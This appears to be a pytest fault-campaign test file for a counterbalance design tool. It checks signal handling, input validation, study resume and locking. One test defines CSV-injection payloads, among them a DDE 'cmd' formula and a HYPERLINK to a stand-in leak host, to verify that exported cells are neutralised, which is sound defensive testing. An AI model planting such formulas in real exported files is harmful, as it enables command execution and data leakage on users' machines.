"""The fault campaign of issue 13: signals, absurd input, deep chains, overflow (each reproduced)."""

from __future__ import annotations

import math
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from builders import payload_pendulum_toml
from conftest import PROBLEMS, ROOT
from counterpoise.errors import ProblemFileError

#: how long the signal tests wait for a study's pool workers to start (a loaded machine is slow)
START_WAIT_S = 120


def _children(pid: int) -> list[int]:
    out = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                out.append(int(entry.name))
    return out


@pytest.mark.skipif(not Path("/proc").exists(), reason="reads /proc")
@pytest.mark.parametrize(("sig", "status", "word"), [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interrupted")])
def test_a_signalled_study_stops_its_workers_and_says_how_to_resume(tmp_path, sig, status, word):
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    args = [sys.executable, "-c", "from counterpoise.cli import main; main()", "study", str(PROBLEMS / "yasir2019_hybrid.toml"),
            "--vary", "m_endo=400 g:1000 g:100000", "--jobs", "2", "--out", str(tmp_path), "--no-plot"]
    # a job started in the background by a non-interactive shell (as CI may start the test
    # suite) inherits SIGINT ignored, and Python then keeps it ignored: give the study the
    # disposition a terminal's Ctrl-C meets
    process = subprocess.Popen(
        args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL)
    )
    try:
        deadline = time.monotonic() + START_WAIT_S
        while len(workers := _children(process.pid)) < 2 and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.2)
        assert len(workers) == 2
        time.sleep(1.0)  # workers past their set-up
        process.send_signal(sig)
        _, err = process.communicate(timeout=START_WAIT_S)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == status
    last = err.strip().splitlines()[-1]
    assert word in last and "--resume" in last and "study.csv" in last
    assert "Traceback" not in err
    time.sleep(0.5)
    assert [p for p in workers if Path(f"/proc/{p}").exists() and "Z" not in (Path(f"/proc/{p}/stat").read_text().rsplit(")", 1)[1].split()[0])] == []


def _cli(args, capsys):
    from counterpoise.cli.app import main

    with pytest.raises(SystemExit) as exit_info:
        main(args)
    return exit_info.value.code, capsys.readouterr()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--vary", "m_c=-400 g:400 g:5"], "--vary m_c: '-400 g' is not allowed: bodies.tip.mass: a mass must not be negative"),
        (["--vary", "M_c.upper=-1 g:400 g:3"], "--vary M_c.upper: '-1 g' is not allowed: variables.M_c: lower bound 0 g is greater than upper bound -1 g"),
        (["--vary", "mass_weight=1:-2:3"], "--vary objective.mass_weight: '-2' is not allowed"),
        (["--vary", "m_c=1 g:2 g:3", "--scheduler", "tls://127.0.0.1:1", "--scheduler-timeout", "1"], "--scheduler: cannot connect to tls://127.0.0.1:1: tls:// needs the Dask TLS configuration"),
    ],
)
def test_varied_values_and_schedulers_are_checked_before_any_work(tmp_path, capsys, args, message):
    if "scheduler" in args:
        pytest.importorskip("distributed")
    file = str(PROBLEMS / "yasir2019_counter_mass.toml")
    code, out = _cli(["study", file, "--out", str(tmp_path), "--jobs", "1", "--no-plot", *args], capsys)
    lines = out.err.strip().splitlines()
    assert code == 2 and len(lines) == 1 and lines[0].startswith(f"{file}: {message}"), out.err
    assert not any(tmp_path.iterdir())


def test_varied_values_are_checked_with_the_set_overrides(tmp_path, capsys):
    # with M_c.lower raised to 300 g by --set, an upper bound of 200 g is inverted
    file = str(PROBLEMS / "yasir2019_counter_mass.toml")
    code, out = _cli(["study", file, "--out", str(tmp_path), "--jobs", "1", "--no-plot", "--set", "variables.M_c.lower=300 g",
                      "--vary", "M_c.upper=200 g:900 g:2"], capsys)
    assert code == 2 and "--vary M_c.upper: '200 g' is not allowed" in out.err


def _chain_text(frames: int) -> str:
    lines = ['[problem]', 'name = "chain"', 'title = "a long chain"', 'source = "fault campaign"',
             '[gravity]', 'acceleration = "9.81 m/s^2"', 'direction = [0, -1, 0]',
             '[subsystems.arm]', 'coordinates.q = { range = ["0 deg", "90 deg"] }',
             '[frames.f0]', 'parent = "ground"', 'transforms = [{ rotate = "z", angle = "q" }]']
    for i in range(1, frames):
        lines += [f'[frames.f{i}]', f'parent = "f{i - 1}"', 'transforms = [{ translate = ["1 mm", 0, 0] }]']
    lines += ['[bodies.tip]', f'frame = "f{frames - 1}"', 'mass = "1 kg"', 'com = [0, 0, 0]',
              '[variables.M]', 'lower = "0 kg"', 'upper = "100 kg"',
              '[counter_masses.M]', 'frame = "f0"', 'mass = "M"', 'position = ["-100 mm", 0, 0]',
              '[objective]', 'mass_weight = 1', 'inertia_weight = "0 1/m^2"']
    return "\n".join(lines) + "\n"


def test_a_chain_of_a_thousand_frames_is_designed_without_deep_recursion():
    from counterpoise.io.loader import load_problem_text
    from counterpoise.pipeline import design

    frames = 1000
    result = design(load_problem_text(_chain_text(frames), "chain.toml"))
    # M × 100 mm = 1 kg × (frames - 1) mm
    assert result.optimal
    assert result.solution.values[next(iter(result.solution.values))] == pytest.approx((frames - 1) / 100, rel=1e-9)


def test_a_huge_bound_gives_one_line_and_no_python_warning(tmp_path):
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    file = str(PROBLEMS / "yasir2019_counter_mass.toml")
    done = subprocess.run([sys.executable, "-c", "from counterpoise.cli import main; main()", "solve", file, "--out", str(tmp_path),
                           "--set", "variables.M_a.upper=1e308 kg"], capture_output=True, text=True, env=env, timeout=START_WAIT_S)
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [f"{file}: the balance residual is not a finite number at some designs within the bounds "
                                                "(a bound too large to compute with, or expressions such as sqrt or log of a variable)"]


def test_an_absurd_payload_is_rejected_up_front(capsys):
    file = str(PROBLEMS / "woo2019_hybrid.toml")
    code, out = _cli(["schedule", file, "--payload", "1e200 g"], capsys)
    lines = out.err.strip().splitlines()
    assert code == 2 and lines == [f"{file}: --payload: '1e200 g' is more than 100 times the upper end of the declared range (0 g to 122 g)"]


def test_every_ipopt_solve_has_a_time_limit():
    from counterpoise.designer.designer import Designer
    from counterpoise.io.loader import load_problem

    designer = Designer(load_problem(PROBLEMS / "yasir2019_free_extensions.toml"), backend="ipopt")
    assert 0 < designer.options["max_wall_time"] < float("inf")


def test_reading_a_large_catalogue_prints_progress(tmp_path):
    from counterpoise import progress
    from counterpoise.catalogue import read_catalogue
    from counterpoise.catalogue.reader import shipped_catalogue_path

    lines = shipped_catalogue_path().read_text(encoding="utf-8").splitlines()
    header, body = lines[0], lines[1:]
    rows = [f"BIG-{i:06d}," + body[i % len(body)].split(",", 1)[1] for i in range(progress.LARGE_STEP + 1)]
    path = tmp_path / "big.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    notes: list[str] = []
    with progress.sink(notes.append):
        catalogue = read_catalogue(path)
    assert len(catalogue) == len(rows)
    assert notes and notes[0] == f"reading catalogue {path}: rows: {len(rows):,} to go"
    with progress.sink(notes.append):
        read_catalogue("shipped")  # a small one says nothing
    assert len(notes) == 1


def test_the_reference_torque_is_the_box_maximum_not_the_sampled_one():
    """Seed 001's leg: the largest torque about the base joint is m g (r_a + r_b + r_c), with the
    leg stretched horizontally, inside the box of theta_a; random samples miss it by ~0.2 %."""
    from counterpoise.designer.designer import Designer
    from counterpoise.io.loader import load_problem
    from counterpoise.verify.check import verify

    problem = load_problem(PROBLEMS / "yasir2019_counter_mass.toml")
    verification = verify(Designer(problem).solve())
    check = next(c for c in verification.checks if c.coordinate == "theta_a")
    exact = 0.4 * 9.81 * (0.135 + 0.195 + 0.200)
    assert check.max_gravity_torque == pytest.approx(exact, rel=1e-6)
    assert verification.reference(check.kind) == pytest.approx(exact, rel=1e-6)


# --------------------------------------------------------------------------------------
# Issue 24: nothing silently wrong
# --------------------------------------------------------------------------------------

BAD_ROBOTS = ROOT / "tests" / "bad_problems" / "robots"


def _robot_problem(folder: Path, model: str, fmt: str = "urdf", joint: str = "shoulder") -> Path:
    """The problem of tests/bad_problems/robots/robot_negative_link_mass.toml on ``model``."""
    text = (BAD_ROBOTS / "robot_negative_link_mass.toml").read_text(encoding="utf-8").split("\n", 1)[1]
    text = text.replace('urdf = "negative_mass.urdf"', f'{fmt} = "{model}"').replace("joints.shoulder", f"joints.{joint}")
    path = folder / "problem.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_a_urdf_with_a_comment_over_libxml2s_limit_is_read(tmp_path):
    """Item 14: a 50 MB comment ("Comment too big" from libxml2's default 10 MB limit) is read
    with lxml's huge_tree option; a file over MAX_MODEL_BYTES is refused with its size."""
    from counterpoise.io import robot
    from counterpoise.io.loader import load_problem

    urdf = (BAD_ROBOTS / "negative_mass.urdf").read_text(encoding="utf-8").replace('value="-1.0"', 'value="1.0"')
    big = urdf.replace("<robot ", "<!-- " + "x" * (50 * 2**20) + " -->\n<robot ", 1)
    (tmp_path / "big.urdf").write_text(big, encoding="utf-8")
    problem = load_problem(_robot_problem(tmp_path, "big.urdf"))
    assert {b.name: b.mass.value for b in problem.bodies} == {"arm": 1.0, "hand": 0.2}
    limit = robot.MAX_MODEL_BYTES
    try:
        robot.MAX_MODEL_BYTES = 2**20
        with pytest.raises(ProblemFileError) as info:
            load_problem(tmp_path / "problem.toml")
    finally:
        robot.MAX_MODEL_BYTES = limit
    assert info.value.key == "robot.urdf" and "big.urdf is 50 MB; robot models up to 1 MB are read" in info.value.message


_MESH_ARM = """<mujoco model="meshed">
  <asset><mesh name="arm_mesh" file="meshes/arm.stl"/></asset>
  <worldbody>
    <body name="base">
      <body name="arm" pos="0 0 0.1">
        <joint name="shoulder" type="hinge" axis="0 1 0" range="-120 120"/>
        {inertial}
        <geom type="mesh" mesh="arm_mesh"/>
        <geom type="sphere" size="0.01" pos="0.4 0 0" contype="0" conaffinity="0"/>
      </body>
    </body>
  </worldbody>
</mujoco>
"""


def test_an_mjcf_with_missing_meshes_loads_when_its_inertials_are_explicit(tmp_path):
    """Item 16: meshes/arm.stl does not exist; the arm's <inertial> gives its mass (1.5 kg at
    200 mm), so the model is read without the mesh. Without the <inertial> the mesh would
    weigh, and the error says what to do."""
    from counterpoise.io.loader import load_problem

    (tmp_path / "arm.xml").write_text(_MESH_ARM.format(inertial='<inertial pos="0.2 0 0" mass="1.5" diaginertia="0.01 0.01 0.01"/>'), encoding="utf-8")
    problem = load_problem(_robot_problem(tmp_path, "arm.xml", "mjcf"))
    arm = next(b for b in problem.bodies if b.name == "arm")
    assert arm.mass.value == 1.5 and [c.value for c in arm.com.position] == [0.2, 0.0, 0.0]
    (tmp_path / "arm.xml").write_text(_MESH_ARM.format(inertial=""), encoding="utf-8")
    with pytest.raises(ProblemFileError) as info:
        load_problem(tmp_path / "problem.toml")
    assert info.value.key == "robot.mjcf" and "Error opening file" in info.value.message and "explicit <inertial>" in info.value.message


def test_a_length_too_large_to_compute_with_is_bad_input(tmp_path, capsys):
    """Item 10: 1e308 mm is finite, but its square is not (it gave "nothing to balance", then an
    infeasible design with residuals of 1e305 N·m): lengths above 1e6 m are input errors."""
    from counterpoise.cli import main

    file = str(PROBLEMS / "yasir2019_counter_mass.toml")
    with pytest.raises(SystemExit) as info:
        main(["solve", file, "--out", str(tmp_path / "out"), "--set", "parameters.r_a=1e308 mm"])
    lines = capsys.readouterr().err.strip().splitlines()
    assert info.value.code == 2 and lines == [f"{file}: parameters.r_a: value out of range: '1e308 mm' is 1e+305 m; lengths up to 1e+06 m (1000 km) are accepted"]
    assert not (tmp_path / "out").exists()


def _main(args, capsys):
    from counterpoise.cli import main

    with pytest.raises(SystemExit) as info:
        main(args)
    out = capsys.readouterr()
    return info.value.code, out.err.strip().splitlines(), out.out


@pytest.mark.parametrize("command", ["solve", "study", "plot", "draw"])
@pytest.mark.parametrize("kind", ["file", "dangling", "file_on_path"])
def test_out_that_cannot_be_a_folder_is_one_line(tmp_path, capsys, command, kind):
    """Item 12: --out at a regular file or a dangling symbolic link said "File exists" after
    the whole design; now one line saying what is wrong, exit 2, nothing written."""
    (tmp_path / "a_file").write_text("x", encoding="utf-8")
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    out = {"file": tmp_path / "a_file", "dangling": tmp_path / "dangling", "file_on_path": tmp_path / "a_file" / "sub"}[kind]
    before = sorted(tmp_path.iterdir())
    extra = ["--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot"] if command == "study" else []
    code, lines, _ = _main([command, str(PROBLEMS / "yasir2019_counter_mass.toml"), "--out", str(out), *extra], capsys)
    expected = {
        "file": f"--out: '{out}' is a file, not a folder",
        "dangling": f"--out: '{out}' is a symbolic link to '{tmp_path / 'nowhere'}', which does not exist",
        "file_on_path": f"--out: '{tmp_path / 'a_file'}' (on the path of '{out}') is a file, not a folder",
    }[kind]
    assert code == 2 and len(lines) == 1 and lines[0].startswith(expected), lines
    assert sorted(tmp_path.iterdir()) == before


def test_set_reads_an_array_as_toml_and_an_entry_by_its_index(capsys):
    """Item 15: an array is set whole (TOML) or one entry by its index; a wrong index or a
    scalar for an array says how."""
    from counterpoise.io.loader import load_problem

    file = PROBLEMS / "yasir2019_counter_mass.toml"
    code, lines, _ = _main(["validate", str(file), "--set", "gravity.direction=[0, 1, 0]", "--set", "subsystems.leg.coordinates.theta_a.range.0=60 deg"], capsys)
    assert code == 0, lines
    from counterpoise.cli.run import coerce

    problem = load_problem(file, {"gravity.direction": coerce("[0, 1, 0]"), "subsystems.leg.coordinates.theta_a.range.0": "60 deg"})
    assert all(tuple(s.gravity.direction) == (0.0, 1.0, 0.0) for s in problem.scenarios)
    assert problem.coordinate["theta_a"].lower == pytest.approx(math.radians(60))
    for item, message in [
        ("gravity.direction.3=1", "gravity.direction.3: the array has 3 entries: set one by its index 0 to 2, or the whole array as TOML"),
        ("gravity.direction=0", "gravity.direction: expected an array such as [0, 0, -1], got 0 (with --set, write the array: --set 'KEY=[...]')"),
    ]:
        code, lines, _ = _main(["validate", str(file), "--set", item], capsys)
        assert code == 2 and lines == [f"{file}: {message}" + lines[0].split(message, 1)[1]], lines
    code, lines, _ = _main(["validate", str(file), "--set", "gravity.direction=[0, 0"], capsys)
    assert code == 2 and lines == ["--set gravity.direction: cannot read '[0, 0' as a TOML array: Unclosed array (at end of document)"]


#: a lever balanced by a counter-mass M (shared) on an adjustable lever b, payload 0-1 kg at
#: r = 300 mm on top of the 1 kg tip: M b = (1 kg + p) r, least M with b <= b.upper
LEVER = payload_pendulum_toml("lever_payload", "b", "100 mm", "250 mm", '["-b", 0, 0]', mass_upper="3 kg", r="300 mm")


def test_a_study_of_an_adjustments_bound_reaches_the_payload_schedule(tmp_path):
    """Item 5: b.upper raised to 300 mm by a study. The least M puts b on its upper bound at
    the largest payload: M = (1 + 1) kg · 0.3 m / 0.3 m = 2 kg, and at 0 kg b = 1 kg · 0.3 m / 2 kg
    = 150 mm. The schedule used to keep the file's 250 mm ("failed ... b at its upper bound
    250 mm"), and the column b@nominal was empty: the columns are b at the range's ends."""
    from counterpoise.io.loader import load_problem_text
    from counterpoise.studies.spec import plan_study
    from counterpoise.studies.study import read_rows, run_study

    problem = load_problem_text(LEVER, str(tmp_path / "lever.toml"))
    plan = plan_study(problem, ["b.upper=300 mm:300 mm:1"], "lever")
    outcome = run_study(problem, plan, tmp_path)
    [row] = read_rows(outcome.folder / "study.csv")
    assert row["status"] == "optimal", row["message"]
    assert float(row["M [kg]"]) == pytest.approx(2.0, rel=1e-6)
    assert float(row["b@tool_1kg [mm]"]) == pytest.approx(300.0, rel=1e-6)
    assert float(row["b@tool_0kg [mm]"]) == pytest.approx(150.0, rel=1e-6)


# -- studies: one writer per folder, nothing lost, nothing kept that is not this plan's ----------


def _pendulum():
    """M b = m r balances; minimising M + w M b² gives b = 1/sqrt(w) = 0.2 m and M = m r / b
    (tests/test_studies.py)."""
    from builders import pendulum

    return pendulum(0.8, 0.3, (0.02, 1.0), 25.0).build()


def _rewrite(path: Path, change) -> None:  # noqa: ANN001 - change(rows) edits the rows in place
    import csv

    from counterpoise.studies.study import read_rows

    rows = read_rows(path)
    header = path.read_text(encoding="utf-8").splitlines()[0].split(",")
    change(rows)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def test_resume_recomputes_torn_rows_and_rows_of_another_plan(tmp_path):
    """Items 4 and 2: a row with empty columns (torn) and a row whose varied value is not the
    plan's (another study's row) are computed again; the others are kept. M = m r / b with
    r = 0.3 m, b = 0.2 m: 0.5 kg -> 0.75 kg ... 0.9 kg -> 1.35 kg."""
    from counterpoise.studies.spec import plan_study
    from counterpoise.studies.study import read_rows, run_study

    problem = _pendulum()
    plan = plan_study(problem, ["m=500 g:900 g:5"], "f")
    full = run_study(problem, plan, tmp_path, batch_size=2)
    path = full.folder / "study.csv"
    expected = [float(r["M [kg]"]) for r in read_rows(path)]
    assert expected == pytest.approx([m * 0.3 / 0.2 for m in (0.5, 0.6, 0.7, 0.8, 0.9)], rel=1e-7)

    def damage(rows):
        for column in ("objective_kg", "added_mass_kg", "M [kg]", "b [m]", "residual_ratio"):
            rows[1][column] = ""  # point 1 torn, still "optimal"
        rows[3]["m [g]"] = "450"  # point 3: a row of another study (450 g is not this plan's)
        rows[3]["M [kg]"] = "0.675"

    _rewrite(path, damage)
    resumed = run_study(problem, plan, tmp_path, resume=True, batch_size=2)
    assert resumed.skipped == 3 and resumed.run == 2
    rows = read_rows(path)
    assert [r["m [g]"] for r in rows] == ["500", "600", "700", "800", "900"]
    assert [float(r["M [kg]"]) for r in rows] == pytest.approx(expected, rel=1e-7)


class _Interrupting:
    """A runner that finishes its first batch, then is interrupted (Ctrl-C)."""

    def map_batches(self, task, batches):  # noqa: ANN001, ANN201
        from counterpoise.studies.runners import solve_batch

        yield solve_batch(task, batches[0])
        raise KeyboardInterrupt


def test_a_new_study_keeps_the_old_one_until_it_completes(tmp_path):
    """Item 3: a different study into the same folder, interrupted after one batch, leaves the
    finished study whole; its own points are in <name>-study.partial, which --resume continues
    and which replaces the folder once complete."""
    from counterpoise.studies.spec import plan_study
    from counterpoise.studies.study import read_rows, run_study, study_in_progress

    problem = _pendulum()
    first = run_study(problem, plan_study(problem, ["m=500 g:900 g:5"], "f"), tmp_path, batch_size=2)
    before = (first.folder / "study.csv").read_text(encoding="utf-8")
    second = plan_study(problem, ["m=400 g:600 g:3"], "f")
    with pytest.raises(KeyboardInterrupt):
        run_study(problem, second, tmp_path, _Interrupting(), batch_size=2)
    assert (first.folder / "study.csv").read_text(encoding="utf-8") == before
    partial = study_in_progress(problem, tmp_path)
    assert partial.name == "pendulum-study.partial" and [r["point"] for r in read_rows(partial / "study.csv")] == ["0", "1"]
    resumed = run_study(problem, second, tmp_path, resume=True, batch_size=2)
    assert resumed.skipped == 2 and resumed.run == 1 and resumed.folder == first.folder
    assert [r["m [g]"] for r in read_rows(first.folder / "study.csv")] == ["400", "500", "600"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study"]  # no partial, lock or old folder left


def test_a_second_study_into_a_locked_folder_is_one_line_naming_the_holder(tmp_path, capsys):
    """Item 2: while a study holds the folder's lock, another study into it exits 2 with one line
    naming the holder (pid and host), and changes nothing."""
    import socket

    from counterpoise.io.loader import load_problem
    from counterpoise.studies.study import study_folder, study_lock

    file = PROBLEMS / "yasir2019_counter_mass.toml"
    folder = study_folder(load_problem(file), tmp_path)
    with study_lock(folder, str(file)):
        code, lines, _ = _main(["study", str(file), "--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(tmp_path)], capsys)
    assert code == 2 and lines == [
        f"{file}: --out: {folder} is being written by another study (pid {os.getpid()} on host {socket.gethostname()}): "
        "wait for it to end, or give another --out"
    ]
    assert list(tmp_path.iterdir()) == []  # the lock file went with its holder


def test_a_refused_resume_is_one_line_without_a_progress_bar(tmp_path, capsys):
    """Item 13: --resume of another plan is one line on stderr (a progress-bar line came first)."""
    file = str(PROBLEMS / "yasir2019_counter_mass.toml")
    args = ["study", file, "--jobs", "1", "--no-plot", "--out", str(tmp_path)]
    code, _, _ = _main([*args, "--vary", "m_c=300 g:400 g:2"], capsys)
    assert code == 0
    code, lines, out = _main([*args, "--vary", "m_c=300 g:500 g:3", "--resume"], capsys)
    assert code == 2 and len(lines) == 1 and "--resume" in lines[0] and "drop --resume to start again" in lines[0], lines
    assert out == ""


def _fill_slowly(folder: str, started: str) -> None:
    """A pool worker writing a report folder that takes long: one file, then it says where
    it writes (renamed into place, so the parent never reads half a line), then it waits."""
    from counterpoise.report.files import atomic_folder

    def fill(temp: Path) -> None:
        (temp / "design.csv").write_text("written before the end\n", encoding="utf-8")
        Path(started + ".part").write_text(str(temp), encoding="utf-8")
        os.replace(started + ".part", started)
        time.sleep(120)

    atomic_folder(Path(folder), fill)


def test_an_ended_pool_worker_leaves_no_unfinished_report_folder(tmp_path):
    """Ctrl-C on `solve --jobs N` (or a failure) ends the workers with SIGTERM
    (`stop_pool`); a worker in the middle of writing a problem's reports removes its hidden
    temporary folder before it goes: nothing half-written is left beside the reports."""
    from counterpoise.studies.runners import process_pool, stop_pool

    out, started = tmp_path / "out", tmp_path / "started"
    pool = process_pool(1)
    try:
        pool.submit(_fill_slowly, str(out / "problem"), str(started))
        deadline = time.monotonic() + 60
        while not started.exists():
            assert time.monotonic() < deadline, "the worker never started writing"
            time.sleep(0.05)
        temp = Path(started.read_text(encoding="utf-8"))
        assert temp.parent == out and temp.name.startswith(".problem.") and (temp / "design.csv").exists()
    finally:
        stop_pool(pool, finished=False)
    assert not temp.exists()
    assert list(out.iterdir()) == []


# -- issue 32: nothing silently wrong III -------------------------------------------------------

#: text cells a spreadsheet runs as formulas (OWASP, CSV injection)
INJECTIONS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak", "click")', "+1+cmd", "-2+3+cmd", "@SUM(1+1)*cmd")


def _formula_cells(folder: Path) -> list[tuple[str, str]]:
    """(file, cell) of every CSV cell under ``folder`` that a spreadsheet would run: one
    beginning with = + - @ tab or CR that is not a number."""
    import csv
    import re

    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                found += [(path.name, c) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]
    return found


def _hostile_lamp(folder: Path) -> Path:
    """problems/lamp_catalogue.toml with formula text in the descriptions (names are
    identifiers: the loader refuses '=' in one) and a copy of the shipped catalogue whose
    every part number begins with one of the formula characters."""
    import csv
    import re

    from counterpoise.catalogue.reader import shipped_catalogue_path

    with shipped_catalogue_path().open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    with (folder / "parts.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([rows[0]] + [[INJECTIONS[i % len(INJECTIONS)] + f"#{i}", *r[1:]] for i, r in enumerate(rows[1:])])
    text = (PROBLEMS / "lamp_catalogue.toml").read_text(encoding="utf-8").replace('file = "shipped"', 'file = "parts.csv"')
    # the pins sit below their brackets' pivots (c_1, c_2 may be negative): negative numbers in the reports
    assert re.search(r'\[variables\.c_1\]\s*lower = "-150 mm"', text)
    hostile = iter(INJECTIONS * 20)
    text = re.sub(r'description = "[^"\n]*"', lambda _: "description = " + __import__("json").dumps(next(hostile)), text)
    path = folder / "lamp.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_no_csv_cell_runs_as_a_spreadsheet_formula(tmp_path, capsys):
    """Item 5: descriptions and part numbers beginning with = + - @ reached design.csv,
    springs.csv and build.csv as they were. Every CSV the solve and a study write now holds
    them behind a single quote; numbers stay numbers (a negative one too); and a part number
    read back (frames --design) is the catalogue's own."""
    import csv

    file = _hostile_lamp(tmp_path)
    code, lines, _ = _main(["solve", str(file), "--out", str(tmp_path / "out")], capsys)
    assert code == 0, lines
    folder = tmp_path / "out" / "lamp_catalogue"
    assert {"design.csv", "springs.csv", "build.csv"} <= {p.name for p in folder.iterdir()}
    assert _formula_cells(tmp_path / "out") == []
    with (folder / "design.csv").open(encoding="utf-8", newline="") as handle:
        design = list(csv.DictReader(handle))
    parts = {r["name"]: r["value"] for r in design if r["kind"] == "part"}
    assert parts and all(p.startswith("'") and p[1:].startswith(tuple(s[0] for s in INJECTIONS)) for p in parts.values()), parts
    assert any(r["description"].startswith("'=") for r in design), design
    c_1 = next(r for r in design if r["name"] == "c_1")
    assert float(c_1["value"]) < 0 and float(c_1["lower"]) == -150  # a negative number is written as a number
    with (folder / "build.csv").open(encoding="utf-8", newline="") as handle:
        build = [c for r in csv.reader(handle) for c in r]
    assert any(c.startswith("-") and float(c) < 0 for c in build)
    code, lines, out = _main(["frames", str(file), "--design", str(folder), "--csv"], capsys)
    assert code in (0, None) and all(f"{slot}: {number[1:]}" in lines[0] for slot, number in parts.items()), lines
    assert _formula_cells(tmp_path / "out") == []
    code, lines, _ = _main(["study", str(file), "--vary", "m_head=400 g:450 g:2", "--jobs", "1", "--no-plot", "--out", str(tmp_path / "study")], capsys)
    assert code == 0, lines
    assert _formula_cells(tmp_path / "study") == []


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already behind a quote: one more, so the reader gets it back exactly
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("plain", "plain"),
        ("'quoted", "'quoted"),
        (-12.5, -12.5),
    ],
)
def test_a_formula_cell_gets_a_quote_and_reads_back(value, cell):
    from counterpoise.report.files import cell_text, spreadsheet_cell

    assert spreadsheet_cell(value) == cell
    if isinstance(value, str):
        assert cell_text(cell) == value


@pytest.mark.parametrize("where", ["row", "header"])
def test_a_catalogue_field_over_the_csv_limit_names_its_row_and_column(tmp_path, capsys, where):
    """Item 11: a field longer than the csv module's limit (131,072 characters) was exit 3
    ("field larger than field limit"); now one line naming the row and the column, exit 2,
    nothing written. The file: tests/bad_problems/catalogues/good.csv with a long material."""
    import csv

    good = (ROOT / "tests" / "bad_problems" / "catalogues" / "good.csv").read_text(encoding="utf-8").splitlines()
    long = "x" * (csv.field_size_limit() + 10)
    lines = [good[0] + f",{long}", *good[1:]] if where == "header" else [good[0], good[1], good[1].replace("P-1", "P-2").replace("music wire", f'"{long}"')]
    (tmp_path / "long.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    toml = (ROOT / "tests" / "bad_problems" / "catalogue_negative_rate.toml").read_text(encoding="utf-8")
    (tmp_path / "p.toml").write_text(toml.replace("catalogues/negative_rate.csv", "long.csv"), encoding="utf-8")
    code, lines, _ = _main(["solve", str(tmp_path / "p.toml"), "--out", str(tmp_path / "out")], capsys)
    expected = {
        "row": f"row 2 (line 3), column material: a field of {len(long):,} characters",
        "header": f"header, column 10: a field of {len(long):,} characters",
    }[where]
    assert code == 2 and len(lines) == 1 and lines[0].startswith(f"{tmp_path / 'p.toml'}: catalogues.parts.file: {tmp_path / 'long.csv'}: {expected}"), lines
    assert not (tmp_path / "out").exists()


def _tree(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (links not followed) and its bytes: what a refused command must leave as it was."""
    return {str(p.relative_to(folder)): (b"-> " + os.readlink(p).encode() if p.is_symlink() else p.read_bytes() if p.is_file() else b"/")
            for p in sorted(folder.rglob("*"))}


@pytest.mark.parametrize("change", ["set", "file", "catalogue"])
def test_resume_refuses_a_study_of_another_problem(tmp_path, capsys, change):
    """Item 2: --resume compared the plan and the columns only: a study of --set b_c=100 mm
    resumed with b_c = 200 mm (or the file edited) mixed both problems' rows in one
    study.csv. The study records its problem's content key; another problem is one line
    saying what differs, exit 2, nothing written."""
    import shutil

    file = tmp_path / "holder.toml"
    if change == "catalogue":
        shutil.copy(ROOT / "tests" / "bad_problems" / "catalogues" / "good.csv", tmp_path / "parts.csv")
        toml = (ROOT / "tests" / "bad_problems" / "catalogue_negative_rate.toml").read_text(encoding="utf-8")
        file.write_text("# a problem with a catalogue\n" + toml.split("\n", 1)[1].replace("catalogues/negative_rate.csv", "parts.csv"), encoding="utf-8")
    else:
        shutil.copy(PROBLEMS / "yasir2019_counter_mass.toml", file)
    out = tmp_path / "out"
    args = ["study", str(file), "--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out)]
    first = ["--set", "parameters.b_c.value=100 mm"] if change == "set" else []
    code, lines, _ = _main([*args, *first], capsys)
    assert code == 0, lines
    before = _tree(out)
    if change == "set":
        again = ["--set", "parameters.b_c.value=200 mm"]
        what = "holds a study run with --set parameters.b_c.value=100 mm, this run has --set parameters.b_c.value=200 mm"
    elif change == "file":
        again = []
        file.write_text(file.read_text(encoding="utf-8").replace('b_c = { value = "200 mm"', 'b_c = { value = "150 mm"'), encoding="utf-8")
        what = "holds a study of another version of the problem file (it was edited since)"
    else:
        again = []
        (tmp_path / "parts.csv").write_text((tmp_path / "parts.csv").read_text(encoding="utf-8").replace(",500,", ",600,"), encoding="utf-8")
        what = "holds a study of another problem content (a file the problem reads, such as a catalogue or a robot model, changed)"
    code, lines, _ = _main([*args, *again, "--resume"], capsys)
    folder = out / "yasir2019_counter_mass-study"
    assert code == 2 and lines == [
